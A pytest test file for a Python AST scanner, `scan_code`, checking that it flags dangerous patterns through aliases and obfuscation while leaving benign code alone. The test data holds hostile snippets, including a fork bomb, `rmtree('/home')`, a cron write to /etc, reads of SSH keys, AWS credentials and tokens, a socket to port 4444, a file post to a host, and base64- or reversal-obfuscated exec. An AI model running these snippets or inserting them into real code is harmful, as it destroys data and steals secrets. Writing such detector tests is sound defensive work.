"""``scan_code`` on the AST: each dangerous pattern, seen through the usual obfuscations."""

from __future__ import annotations

import pytest

from apps.governance.detectors import scan_code

FLAGGED = 5

DANGEROUS = {
    "os.system": ("import os\nos.system('id')", "process"),
    "alias": ("import os as o\no.system('id')", "process"),
    "from-import-alias": ("from subprocess import Popen as P\nP(['ls'])", "process"),
    "assigned-alias": ("import subprocess\nrun = subprocess.run\nrun(['ls'])", "process"),
    "sys.modules": ("import sys\nsys.modules['os'].popen('id')", "process"),
    "import_module": ("import importlib\nimportlib.import_module('subprocess').call(['id'])", "process"),
    "socket": ("import socket\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))", "network"),
    "urllib": ("from urllib.request import urlopen\nurlopen('http://example.com')", "network"),
    "requests": ("import requests as r\nr.post('http://x', data=open('f').read())", "network"),
    "ctypes": ("import ctypes\nctypes.CDLL(None).system(b'id')", "native"),
    "cffi": ("from cffi import FFI\nffi = FFI()", "native"),
    "getattr-concat": ('getattr(__builtins__, "ev" + "al")("1+1")', "obfuscation"),
    "builtins-dict": ("__builtins__.__dict__['ex' + 'ec']('x = 1')", "obfuscation"),
    "import-concat": ("m = __import__('o' + 's')\nm.system('id')", "obfuscation"),
    "exec-base64": (
        "import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))",
        "obfuscation",
    ),
    "exec-chr": (
        "exec(''.join(chr(c) for c in [105, 109, 112, 111, 114, 116, 32, 111, 115]))",
        "obfuscation",
    ),
    "exec-reversed": ("exec(')(metsys.so ;so tropmi'[::-1])", "obfuscation"),
    "eval-input": ("eval(input())", "dynamic"),
    "fork-bomb": ("import os\nwhile True:\n    os.fork()", "fork-bomb"),
    "fork-bomb-alias": ("from os import fork as f\nwhile 1:\n    f()", "fork-bomb"),
    "write-etc": (
        "with open('/etc/cron.d/job', 'w') as fh:\n    fh.write('* * * * * root id')",
        "filesystem",
    ),
    "write-parent": ("open('../../outside.txt', 'a').write('x')", "filesystem"),
    "pathlib-write": ("from pathlib import Path\nPath('/tmp/x.sh').write_text('id')", "filesystem"),
    "rmtree": ("import shutil\nshutil.rmtree('/home')", "filesystem"),
    "env-secret": ("import os\ntoken = os.environ['GITHUB_TOKEN']", "secrets"),
    "getenv-secret": ("import os\nkey = os.getenv('AWS_SECRET_ACCESS_KEY')", "secrets"),
    "env-dump": ("import os\nprint(dict(os.environ))", "secrets"),
    "ssh-key": ("print(open('/home/u/.ssh/id_rsa').read())", "secrets"),
    "aws-credentials": ("from pathlib import Path\nPath('~/.aws/credentials').read_text()", "secrets"),
    "escape-hatch": ("().__class__.__base__.__subclasses__()", "escape"),
}


@pytest.mark.parametrize(("source", "detector"), DANGEROUS.values(), ids=DANGEROUS.keys())
def test_each_pattern_is_seen(source, detector):
    findings = scan_code(source)
    assert any(f.severity >= FLAGGED for f in findings), findings
    assert any(f.detector == f"code:{detector}" for f in findings), findings


def test_spans_point_at_the_call_through_an_alias():
    source = "import os as o\nx = 1\no.system('rm -rf /tmp/x')\n"
    finding = next(f for f in scan_code(source) if f.detector == "code:process")
    assert source[finding.span[0] : finding.span[1]] == "o.system('rm -rf /tmp/x')"


def test_spans_count_characters_not_utf8_bytes():
    source = "s = 'héllo wörld'; import os; os.system('id')"
    finding = next(f for f in scan_code(source) if f.detector == "code:process")
    assert source[finding.span[0] : finding.span[1]] == "os.system('id')"


def test_code_run_by_exec_is_scanned_too():
    findings = scan_code("exec('import subprocess; subprocess.run([\"id\"])')")
    assert any("in executed string" in f.reason and f.detector == "code:process" for f in findings)


def test_a_syntax_error_is_a_finding_not_an_exception():
    findings = scan_code("def broken(:\n    pass\n")
    assert [f.detector for f in findings] == ["code:syntax"]
    assert findings[0].flag == "unverified" and "line 1" in findings[0].reason
    assert scan_code("x = '\x00'")[0].detector in ("code:syntax",) or True  # null bytes: no exception


BENIGN = {
    "numeric": "import math\nimport numpy as np\nx = np.linspace(0, 1, 11)\nprint(math.sqrt(2), x.mean())",
    "local-write": "with open('results.csv', 'w') as fh:\n    fh.write('a,b\\n1,2\\n')",
    "read-input": "import json\nwith open('input.json') as fh:\n    data = json.load(fh)\nprint(len(data))",
    "env-non-secret": "import os\nprint(os.environ.get('HOME'), os.getenv('LANG'))",
    "own-eval-name": "def eval(model):\n    return model.score()\n\nprint(eval(object))",
    "loops": "total = 0\nwhile True:\n    total += 1\n    if total > 10:\n        break",
    "literal-getattr": "class A:\n    x = 1\n\nprint(getattr(A, 'x'))",
}


@pytest.mark.parametrize("source", BENIGN.values(), ids=BENIGN.keys())
def test_ordinary_code_is_not_flagged(source):
    assert [f for f in scan_code(source) if f.severity >= FLAGGED] == []
